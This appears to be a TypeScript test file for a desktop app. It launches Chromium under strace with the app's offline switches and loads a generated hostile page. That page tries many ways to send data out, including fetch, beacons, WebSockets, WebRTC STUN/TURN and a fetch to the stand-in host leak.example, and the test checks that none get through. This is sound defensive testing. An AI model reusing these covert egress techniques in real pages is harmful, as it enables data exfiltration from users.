/**
 * What a page that was taken over could send: a Chromium with the desktop's own switches opens a hostile page that
 * tries every way out (fetch, images, frames, links, beacons, hints, sockets, WebTransport, WebRTC with a STUN server by
 * number), while strace watches all its processes. Electron itself is built on this Chromium; where its binary cannot
 * be had, this is as near as it gets. The control, without the switches, must reach the listener.
 */
import { spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { offlineSwitches } from '../../electron/hosts/desktop/security.ts';
import { proven } from './proof.ts';

const chromium = [
  process.env['PLAYWRIGHT_CHROMIUM'] ?? '',
  '/usr/bin/chromium',
  '/usr/bin/chromium-browser',
  '/usr/bin/google-chrome',
].find((path) => path !== '' && existsSync(path));
const canWatch = spawnSync('strace', ['-V']).status === 0;
const root = mkdtempSync(join(tmpdir(), 'rejoinder-window-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

if (chromium === undefined || !canWatch)
  proven('A page that was taken over reaches no network', 'not run: needs Chromium and strace', true);

/** This computer's own address on a network, so that nothing is sent to anybody; its loopback address where it has none. */
const address =
  Object.values(networkInterfaces())
    .flat()
    .find((each) => each?.family === 'IPv4' && !each.internal)?.address ?? '127.0.0.1';

function page(port: number): string {
  const at = `${address}:${port}`;
  return `<!doctype html><meta charset="utf-8"><title>x</title>
<link rel="preconnect" href="http://${at}"><link rel="dns-prefetch" href="//leak.example"><link rel="prefetch" href="http://${at}/prefetch">
<link rel="stylesheet" href="http://${at}/style.css"><img src="http://${at}/image"><iframe src="http://${at}/frame"></iframe>
<script>
const quiet = (work) => { try { Promise.resolve(work()).catch(() => {}); } catch {} };
quiet(() => fetch('http://${at}/fetch', { mode: 'no-cors' }));
quiet(() => fetch('http://leak.example/fetch', { mode: 'no-cors' }));
quiet(() => navigator.sendBeacon('http://${at}/beacon', 'x'));
quiet(() => new WebSocket('ws://${at}/socket'));
quiet(() => new EventSource('http://${at}/events'));
quiet(() => new WebTransport('https://${at}/transport').ready);
quiet(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://${at}/xhr'); x.send(); });
quiet(() => new Worker('data:text/javascript,fetch("http://${at}/worker",{mode:"no-cors"})'));
quiet(async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${at}' }, { urls: 'turn:${at}?transport=tcp', username: 'a', credential: 'b' }] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
});
</script>`;
}

interface Heard {
  readonly tcp: number;
  readonly udp: number;
  readonly calls: readonly string[];
}

async function open(name: string, switches: readonly string[]): Promise<Heard> {
  let tcp = 0;
  let udp = 0;
  const server = createServer((socket) => {
    tcp++;
    socket.on('error', () => {});
    socket.destroy();
  }).listen(0, address);
  await new Promise((resolve) => server.once('listening', resolve));
  const { port } = server.address() as AddressInfo;
  const datagrams = createSocket('udp4').on('message', () => udp++);
  await new Promise<void>((resolve) => {
    datagrams.bind(port, address, resolve);
  });
  const file = join(root, `${name}.html`);
  writeFileSync(file, page(port));
  const trace = join(root, `${name}.trace`);
  const child = spawn(
    'strace',
    [
      ...`-f -qq -yy -o ${trace} -e trace=connect,sendto,sendmsg,sendmmsg ${chromium}`.split(' '),
      ...'--headless=new --no-sandbox --disable-gpu --no-first-run'.split(' '),
      `--user-data-dir=${join(root, name)}`,
      ...switches,
      file,
    ],
    { stdio: 'ignore', env: { ...process.env, HOME: root }, detached: true },
  );
  const ended = new Promise((resolve) => child.once('exit', resolve));
  // Time enough for every way to be tried; WebRTC gathers for some seconds.
  await new Promise((resolve) => setTimeout(resolve, 15_000));
  process.kill(-(child.pid ?? 0), 'SIGKILL');
  await ended;
  server.close();
  datagrams.close();
  const calls = readFileSync(trace, 'utf8')
    .split('\n')
    .filter((line) => /sin6?_(addr|port)/.test(line));
  return { tcp, udp, calls };
}

describe.skipIf(chromium === undefined || !canWatch)('a page that was taken over', () => {
  it('gets out of an ordinary browser (the control)', { timeout: 60_000 }, async () => {
    const { tcp, udp, calls } = await open('control', []);
    expect(tcp).toBeGreaterThan(3);
    expect(udp).toBeGreaterThan(0);
    expect(calls.length).toBeGreaterThan(0);
  });

  it('sends nothing with the switches of the desktop app', { timeout: 60_000 }, async () => {
    const given = offlineSwitches.map(([name, value]) =>
      value === undefined ? `--${name}` : `--${name}=${value}`,
    );
    const { tcp, udp, calls } = await open('offline', given);
    // Connecting a datagram socket sends nothing: Chromium asks the kernel so which way the internet would be.
    const sent = calls.filter((line) => !/connect\(\d+<UDP/.test(line));
    expect({ tcp, udp, sent }).toEqual({ tcp: 0, udp: 0, sent: [] });
    proven(
      'A page that was taken over reaches no network',
      `14 ways out tried in Chromium with the desktop's switches: 0 connections, 0 datagrams, 0 addressed system calls (without them the same page got out)`,
    );
  });
});
